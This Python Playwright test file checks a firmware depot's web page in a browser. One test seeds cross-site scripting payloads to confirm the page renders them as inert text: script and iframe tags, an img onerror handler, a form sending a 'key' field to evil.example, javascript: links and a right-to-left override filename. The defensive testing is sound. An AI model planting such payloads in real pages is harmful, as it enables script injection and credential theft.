"""The depot's page in a real browser, through Home Assistant's ingress and alone."""

import asyncio
from collections.abc import Callable, Coroutine, Iterator, Mapping
from concurrent.futures import ThreadPoolExecutor
import hashlib
from pathlib import Path
import re
import subprocess
import time
from typing import Any

from playwright.sync_api import Locator, expect
import pytest
from stack.ports import free_port

from tests.depot.process import DepotProcess
from tests.depot.rig import KEY, Rig
from tests.depot.test_image_header import esp_app

from .ingress import MAX_BUFFERED, ingress_to
from .visitor import Visitor, visiting

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

MEBIBYTE = 1024 * 1024
LARGE = 200 * MEBIBYTE
C3, S3 = 5, 9
UPLOAD_SECONDS = 50.0
NOTES = """## What is new

- Sleeps **between** measurements
- Reports air pressure

See [the manual](https://example.com/manual).
"""
HOSTILE_NOTES = """<script>document.title = "taken"</script>
<img src="https://evil.example/x.png" onerror="document.title = 'taken'">
<iframe src="https://evil.example/"></iframe><style>* { display: none }</style>
<form action="https://evil.example/"><input name="key"><button>Send</button></form>

[press](javascript:alert(1)) <a href="data:text/html,x" onclick="alert(1)">me</a>

# Harmless
"""


@pytest.fixture(scope="module")
def _depot_of_all(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DepotProcess]:
    """Run a depot with a door for Home Assistant, which is this machine."""
    depot = DepotProcess(
        tmp_path_factory.mktemp("page") / "data",
        *("--tls", "false", "--ingress-port", "0", "--ingress-peer", "127.0.0.1"),
        *("--max-package-size", str(2 * LARGE)),
    )
    yield depot
    depot.stop()


@pytest.fixture
def depot(_depot_of_all: DepotProcess, _real_sockets: None) -> DepotProcess:
    """Return the depot, emptied."""

    async def clear(rig: Rig) -> None:
        """Remove what an earlier test left."""
        for package in (await rig.api("GET", "/packages")).body["packages"]:
            await rig.api("DELETE", f"/packages/{package['id']}")

    ask(_depot_of_all, clear)
    return _depot_of_all


@pytest.fixture
def visitor(depot: DepotProcess, screenshots: Path) -> Iterator[Visitor]:
    """Visit the page within Home Assistant; nothing may go wrong behind the scenes."""
    with (
        ingress_to(f"http://127.0.0.1:{depot.endpoint['ingress_port']}") as ingress,
        visiting(ingress.url, screenshots) as visitor,
    ):
        visitor.page.get_by_role("heading", name="Packages", level=1).wait_for()
        yield visitor
        assert visitor.hosts == {ingress.url.split("/")[2]}


def ask[T](depot: DepotProcess, work: Callable[[Rig], Coroutine[Any, Any, T]]) -> T:
    """Let a program use the depot's API."""

    async def call() -> T:
        """Call it with a client of its own."""
        async with depot.client() as rig:
            return await work(rig)

    # The browser's loop runs in this thread.
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(asyncio.run, call()).result()


def packages(depot: DepotProcess) -> list[dict[str, Any]]:
    """Return all packages of a depot."""
    answer = ask(depot, lambda rig: rig.api("GET", "/packages"))
    return list(answer.body["packages"])


def image(folder: Path, name: str = "weather-1.4.0.bin", size: int = 0, **header: Any) -> Path:
    """Make a file that begins like an application of ESP-IDF."""
    path = folder / name
    path.write_bytes(esp_app(**{"chip": C3, **header}).ljust(size, b"\xa5"))
    return path


def watched(card: Locator) -> tuple[list[float], list[str]]:
    """Return what an upload's bar and text showed until it was over."""
    bars: list[float] = []
    texts: list[str] = []
    deadline = time.monotonic() + UPLOAD_SECONDS
    while not card.get_by_text("In the depot:").is_visible():
        assert time.monotonic() < deadline, f"stuck; seen {bars}"
        for bar in card.get_by_role("progressbar").element_handles():
            bars.append(bar.evaluate("bar => bar.value / bar.max"))
            texts.append(card.inner_text())
    return bars, texts


def tell_installations(depot: DepotProcess, versions: Mapping[str, str]) -> None:
    """Tell the depot, as Home Assistant does, which firmware the devices run."""
    devices = [
        {
            "device_id": device_id,
            "name": device_id.replace("_", " ").title(),
            "model": "weather",
            "firmware": version,
        }
        for device_id, version in versions.items()
    ]

    async def tell(rig: Rig) -> None:
        """Tell all of them."""
        told = await rig.api("POST", "/installations", json={"reset": True, "devices": devices})
        assert told.status == 204

    ask(depot, tell)


def test_the_life_of_a_package(visitor: Visitor, depot: DepotProcess, tmp_path: Path) -> None:
    """Upload 200 MiB through Home Assistant, edit, withdraw, restore, delete and undo."""
    page = visitor.page
    file = image(tmp_path, size=LARGE)
    visitor.choose(file)
    card = visitor.card(file.name)
    expect(card.get_by_label("Model")).to_have_value("weather")
    expect(card.get_by_label("Version")).to_have_value("1.4.0")
    expect(card).to_contain_text("ESP32-C3")
    card.get_by_role("button", name="Upload", exact=True).click()
    bars, texts = watched(card)
    assert bars == sorted(bars)
    assert len({round(each, 2) for each in bars}) > 5, bars
    assert any(re.search(r"\d% · \d+(\.\d)? MB/s · \d+ secs? left", text) for text in texts), texts
    (package,) = packages(depot)
    assert package["size"] == LARGE > MAX_BUFFERED
    assert package["sha256"] == hashlib.sha256(file.read_bytes()).hexdigest()
    card.get_by_role("link", name="weather 1.4.0").click()

    tell_installations(depot, {"weather_kitchen": "1.4.1", "weather_attic": "1.4.1"})
    expect(page.get_by_text("No device runs this version.")).to_be_visible()
    installed = page.get_by_role("list", name="Installed on")

    visitor.press("Edit")
    page.get_by_label("Version").fill("1.4.1")
    page.get_by_label("Release notes").fill(NOTES)
    page.get_by_label("Upgrades from").fill("1.3.0, 1.2.9")
    visitor.press("Save")
    expect(page.get_by_role("heading", name="weather 1.4.1")).to_be_visible()
    expect(page.get_by_role("heading", name="What is new", level=3)).to_be_visible()
    expect(page.get_by_text("1.3.0, 1.2.9")).to_be_visible()

    expect(installed).to_contain_text("Weather Kitchen")
    tell_installations(depot, {"weather_attic": "1.4.1"})
    expect(installed).not_to_contain_text("Weather Kitchen")

    visitor.press("Withdraw")
    expect(page.get_by_text("Withdrawn")).to_be_visible()
    assert packages(depot)[0]["withdrawn"] is True
    visitor.press("Restore")
    expect(page.get_by_text("Withdrawn")).to_be_hidden()
    assert packages(depot)[0]["withdrawn"] is False

    visitor.press("Delete")
    expect(page.get_by_text("weather 1.4.1 is deleted")).to_be_visible()
    expect(visitor.row("weather 1.4.1")).to_be_hidden()
    visitor.press("Undo")
    expect(visitor.row("weather 1.4.1")).to_be_visible()
    (restored,) = packages(depot)
    assert (restored["remove_at"], restored["withdrawn"]) == (None, False)
    assert visitor.faults == []


def test_a_closed_page_keeps_no_package(
    visitor: Visitor, depot: DepotProcess, tmp_path: Path
) -> None:
    """What was deleted goes after its time though nobody looks any more."""
    visitor.upload(image(tmp_path))
    visitor.open("weather 1.4.0")
    visitor.press("Delete")
    expect(visitor.page.get_by_text("weather 1.4.0 is deleted")).to_be_visible()
    visitor.page.goto("about:blank")
    assert len(packages(depot)) == 1
    deadline = time.monotonic() + 20
    while packages(depot):
        assert time.monotonic() < deadline
        time.sleep(0.5)


def test_many_files_are_dropped(visitor: Visitor, depot: DepotProcess) -> None:
    """Names tell what no header does; what is missing is typed; all are sent at once."""
    page = visitor.page
    visitor.drop([("lamp-2.1.0.bin", "one"), ("fan_v3.0.1.bin", "two"), ("plain", "three")])
    for name, model, version in (
        ("lamp-2.1.0.bin", "lamp", "2.1.0"),
        ("fan_v3.0.1.bin", "fan", "3.0.1"),
    ):
        expect(visitor.card(name).get_by_label("Model")).to_have_value(model)
        expect(visitor.card(name).get_by_label("Version")).to_have_value(version)
    plain = visitor.card("plain")
    expect(plain.get_by_role("button", name="Upload", exact=True)).to_be_disabled()
    plain.get_by_label("Kind").select_option("software")
    plain.get_by_label("Model").fill("gateway")
    plain.get_by_label("Version").fill("7")
    page.get_by_role("button", name="Upload all (3)").click()
    expect(page.get_by_text("In the depot:")).to_have_count(3)
    assert {(each["kind"], each["model"], each["version"]) for each in packages(depot)} == {
        ("firmware", "lamp", "2.1.0"),
        ("firmware", "fan", "3.0.1"),
        ("software", "gateway", "7"),
    }
    assert visitor.faults == []


def test_an_upload_is_cancelled(visitor: Visitor, depot: DepotProcess, tmp_path: Path) -> None:
    """Nothing of it stays, neither in the depot nor on its disk."""
    file = image(tmp_path, size=LARGE)
    visitor.choose(file)
    card = visitor.card(file.name)
    card.get_by_role("button", name="Upload", exact=True).click()
    expect(card.get_by_text(re.compile(r"\d%"))).to_be_visible()
    card.get_by_role("button", name=f"Leave out {file.name}").click()
    expect(card).to_be_hidden()
    assert packages(depot) == []
    incoming = depot.data_dir / "incoming"
    deadline = time.monotonic() + 10
    while list(incoming.iterdir()):
        assert time.monotonic() < deadline
        time.sleep(0.1)


def test_the_wrong_file(visitor: Visitor, depot: DepotProcess, tmp_path: Path) -> None:
    """The wrong chip, an image for the serial port and an empty file are named before they do harm."""
    visitor.upload(image(tmp_path))
    wrong = image(tmp_path, "wrong.bin", chip=S3, version=b"1.5.0")
    factory = image(tmp_path, "factory.bin", size=0x8000)
    factory.write_bytes(factory.read_bytes() + (b"\xaa\x50" + bytes(30)) * 2)
    empty = tmp_path / "empty-1.0.0.bin"
    empty.touch()
    visitor.choose(wrong, factory, empty)
    card = visitor.card("wrong.bin")
    expect(card.get_by_role("alert")).to_contain_text("ESP32-S3, but weather 1.4.0 is for ESP32-C3")
    button = card.get_by_role("button", name="Upload", exact=True)
    expect(button).to_be_disabled()
    card.get_by_label("Model").fill("weather-s3")
    expect(card.get_by_role("alert")).to_be_hidden()
    button.click()
    expect(card.get_by_text("In the depot:")).to_be_visible()
    expect(visitor.card("factory.bin").get_by_role("alert")).to_contain_text("serial port")
    expect(visitor.card("empty-1.0.0.bin").get_by_role("alert")).to_contain_text("empty")
    huge = tmp_path / "huge-1.0.0.bin"
    with huge.open("wb") as file:
        file.truncate(2 * LARGE + 1)
    visitor.choose(huge)
    expect(visitor.card("huge-1.0.0.bin").get_by_role("alert")).to_contain_text("larger than")
    assert len(packages(depot)) == 2


def test_hostile_names_and_notes(visitor: Visitor, depot: DepotProcess) -> None:
    """They are shown as text; nothing runs, and nothing is fetched from elsewhere."""
    page = visitor.page
    name = '<img src=x onerror="document.title=1">'

    async def upload(rig: Rig) -> None:
        """Upload what a browser would not."""
        await rig.package(model=name, version='"><b>', release_notes=HOSTILE_NOTES)
        lie = esp_app(name=b"\xff\xfe<b>", version=b"\x1b[31m" + b"<" * 27, framework=b"<i>")
        await rig.package(lie, model="liar", version="1", name="<b>\u202egpj.bin")

    ask(depot, upload)
    visitor.open(name)
    expect(page.get_by_role("heading", name="Harmless")).to_be_visible()
    for tag in ("script", "iframe", "style", "form", "input"):
        assert page.locator(f"ota-package-view .notes {tag}").count() == 0
    assert page.locator(".notes img").count() == 0
    hrefs = page.locator(".notes a").evaluate_all("links => links.map(link => link.href)")
    assert hrefs == ["", ""]
    visitor.go_to("Packages")
    visitor.open("liar 1")
    expect(page.get_by_text("<i>")).to_be_visible()
    visitor.drop([('<b onclick="x">.bin', "text")])
    expect(visitor.card('<b onclick="x">.bin')).to_be_visible()
    assert page.title() == "MQTT OTA depot"
    # The only complaint is that of the second guard, the security policy, about the notes.
    assert all("Content Security Policy" in fault for fault in visitor.faults), visitor.faults


def test_a_device_downloads(visitor: Visitor, depot: DepotProcess) -> None:
    """Everybody who looks sees how far it is, without loading the page again."""
    page = visitor.page

    async def begin(rig: Rig) -> dict[str, Any]:
        """Tell a device to download, which fetches a part."""
        package = await rig.package(bytes(1000))
        grant = await rig.grant(package, device_id="weather_kitchen")
        await rig.download(grant, Range="bytes=0-249")
        return grant

    async def finish(rig: Rig) -> None:
        """Fetch the rest."""
        await rig.download(grant, Range="bytes=250-")

    grant = ask(depot, begin)
    expect(visitor.row("weather 1.4.0")).to_be_visible()
    visitor.go_to("Downloads")
    row = page.get_by_role("listitem").filter(has_text="weather_kitchen")
    expect(row).to_contain_text("25%")
    expect(row).to_contain_text("Interrupted")
    ask(depot, finish)
    expect(row).to_contain_text("100%")
    expect(row).to_contain_text("Complete")
    row.get_by_role("link", name="weather 1.4.0").click()
    expect(page.get_by_role("listitem").filter(has_text="weather_kitchen")).to_be_visible()
    assert visitor.faults == []


def test_search_and_order(visitor: Visitor, depot: DepotProcess) -> None:
    """A few letters find a package; the list comes in the wanted order."""
    page = visitor.page

    async def fill(rig: Rig) -> None:
        """Upload some packages."""
        for version, size in (("1.10.0", 10), ("1.9.0", 30), ("1.2.0", 20)):
            await rig.package(bytes(size), version=version)
        await rig.package(bytes(5), model="lamp", release_notes="Fixes the *flicker*")

    ask(depot, fill)
    names = page.get_by_role("list", name="Packages").get_by_role("link")
    expect(names).to_have_count(4)
    page.get_by_label("Order").select_option("By model")
    expect(names).to_contain_text(["lamp", "1.10.0", "1.9.0", "1.2.0"])
    page.get_by_label("Order").select_option("Largest first")
    expect(names).to_contain_text(["1.9.0", "1.2.0", "1.10.0", "lamp"])
    page.get_by_label("Search").fill("flick")
    expect(names).to_have_count(1)
    page.get_by_label("Search").fill("WEATHER 1.9")
    expect(names).to_have_count(1)
    page.get_by_label("Search").fill("nothing of this")
    expect(page.get_by_text("No package has all of these words.")).to_be_visible()


def test_everything_by_keyboard(visitor: Visitor, depot: DepotProcess) -> None:
    """No mouse is needed, and who cannot see hears where he is."""
    page = visitor.page
    ask(depot, lambda rig: rig.package())
    expect(visitor.row("weather 1.4.0")).to_be_visible()
    focused = "() => { let e = document.activeElement; while (e.shadowRoot?.activeElement) e = e.shadowRoot.activeElement; return e.textContent.trim().replace(/\\s+/g, ' '); }"

    def tab_to(text: str) -> None:
        """Press Tab until something with the text is reached."""
        for _ in range(30):
            page.keyboard.press("Tab")
            if text in page.evaluate(focused):
                return
        msg = f"{text} cannot be reached"
        raise AssertionError(msg)

    page.keyboard.press("Tab")
    assert page.evaluate(focused) == "Skip to the content"
    tab_to("weather 1.4.0")
    page.keyboard.press("Enter")
    page.get_by_role("heading", name="weather 1.4.0").wait_for()
    assert page.evaluate(focused) == "weather 1.4.0"
    tab_to("Delete")
    page.keyboard.press("Enter")
    page.get_by_text("weather 1.4.0 is deleted").wait_for()
    tab_to("Undo")
    page.keyboard.press("Enter")
    expect(visitor.row("weather 1.4.0")).to_be_visible()


def test_alone_the_page_asks_for_the_key(depot: DepotProcess, screenshots: Path) -> None:
    """A wrong key is refused, the right one kept until the tab is closed or it is forgotten."""
    with visiting(depot.url, screenshots) as visitor:
        page = visitor.page
        assert visitor.look("key") == []
        visitor.unlock("wrong")
        expect(page.get_by_role("alert")).to_contain_text("The API key is wrong.")
        visitor.unlock(KEY)
        expect(page.get_by_text("No packages yet")).to_be_visible()
        page.reload()
        expect(page.get_by_text("No packages yet")).to_be_visible()
        ask(depot, lambda rig: rig.package())
        expect(visitor.row("weather 1.4.0")).to_be_visible()
        visitor.go_to("Depot")
        visitor.press("Forget the key")
        expect(page.get_by_label("API key", exact=True)).to_be_visible()
        page.reload()
        expect(page.get_by_label("API key", exact=True)).to_be_visible()
        assert KEY not in page.content()


def test_the_depot_restarts(tmp_path: Path, screenshots: Path) -> None:
    """The page says that it is away, and goes on when it is back."""
    port = str(free_port())
    options = ("--tls", "false", "--port", port)
    depot = DepotProcess(tmp_path / "data", *options)
    with visiting(depot.url, screenshots) as visitor:
        visitor.unlock(KEY)
        expect(visitor.page.get_by_text("No packages yet")).to_be_visible()
        depot.stop()
        lost = visitor.page.get_by_text("The depot does not answer.")
        expect(lost).to_be_visible()
        depot = DepotProcess(tmp_path / "data", *options)
        expect(lost).to_be_hidden()
        ask(depot, lambda rig: rig.package())
        visitor.open("weather 1.4.0")
        expect(visitor.page.get_by_text("Home Assistant has not told yet")).to_be_visible()
    depot.stop()


def test_the_upload_command(visitor: Visitor, depot: DepotProcess, tmp_path: Path) -> None:
    """What the page offers to copy works as it stands."""
    visitor.go_to("Depot")
    code = visitor.page.locator("ota-copy-line", has_text="curl").locator("code")
    command = str(code.text_content())
    (tmp_path / "weather-1.4.0.bin").write_bytes(b"firmware")
    environment = {"DEPOT_API_KEY": KEY, "PATH": "/usr/bin:/bin"}
    subprocess.run(["bash", "-ec", command], cwd=tmp_path, env=environment, check=True)
    assert [each["version"] for each in packages(depot)] == ["1.4.0"]
    visitor.press("Show API key")
    expect(visitor.page.get_by_text(KEY)).to_be_visible()


def test_looks(visitor: Visitor, depot: DepotProcess, tmp_path: Path) -> None:
    """Light and dark, desk and phone: pictures to look at, and nothing that axe calls an obstacle."""
    page = visitor.page
    obstacles = visitor.look("empty")

    async def fill(rig: Rig) -> None:
        """Make a depot as it is after some months."""
        await rig.package(esp_app(version=b"1.3.2") + bytes(900_000), version="1.3.2")
        weather = await rig.package(
            esp_app() + bytes(1_200_000), release_notes=NOTES, source_versions=["1.3.2"]
        )
        old = await rig.package(bytes(300_000), model="garden-node", version="0.9.1")
        await rig.api("PATCH", f"/packages/{old['id']}", json={"withdrawn": True})
        await rig.package(bytes(9_000_000), model="gateway", kind="software", version="2026.11")
        for device, end in (("kitchen", 500_000), ("garage", 1_300_000)):
            grant = await rig.grant(weather, device_id=f"weather_{device}", task_id=device)
            await rig.download(grant, Range=f"bytes=0-{end}")
        await rig.grant(weather, device_id="weather_attic", task_id="attic")

    ask(depot, fill)
    tell_installations(depot, {f"weather_{name}": "1.4.0" for name in ("kitchen", "hall", "bath")})
    expect(visitor.row("gateway 2026.11")).to_be_visible()
    obstacles += visitor.look("list")
    visitor.choose(
        image(tmp_path, "weather-1.5.0.bin", version=b"1.5.0"),
        image(tmp_path, "wrong.bin", chip=S3, version=b"1.6.0"),
    )
    expect(visitor.card("wrong.bin").get_by_role("alert")).to_be_visible()
    obstacles += visitor.look("upload")
    visitor.open("weather 1.4.0")
    expect(page.get_by_text("ESP32-C3")).to_be_visible()
    obstacles += visitor.look("package")
    visitor.press("Edit")
    obstacles += visitor.look("edit")
    visitor.press("Cancel")
    visitor.press("Delete")
    expect(page.get_by_text("weather 1.4.0 is deleted")).to_be_visible()
    obstacles += visitor.look("undo")
    visitor.press("Undo")
    visitor.go_to("Downloads")
    obstacles += visitor.look("downloads")
    visitor.go_to("Depot")
    obstacles += visitor.look("depot")
    assert obstacles == []


def test_the_key_is_renewed(tmp_path: Path, screenshots: Path) -> None:
    """The first press only asks; then the old key is refused, and this page goes on with the new one."""
    depot = DepotProcess(tmp_path / "data", "--tls", "false", api_key=None)
    old = (tmp_path / "data" / "api_key").read_text().strip()
    with visiting(depot.url, screenshots) as visitor:
        page = visitor.page
        visitor.unlock(old)
        visitor.go_to("Depot")
        visitor.press("Renew the key")
        expect(page.get_by_text("The old key is refused from then on.")).to_be_visible()
        assert (tmp_path / "data" / "api_key").read_text().strip() == old
        visitor.press("Renew now")
        visitor.press("Show API key")
        new = (tmp_path / "data" / "api_key").read_text().strip()
        assert new != old
        expect(page.get_by_text(new)).to_be_visible()
        page.reload()
        visitor.go_to("Packages")
        expect(page.get_by_text("No packages yet")).to_be_visible()
    depot.stop()
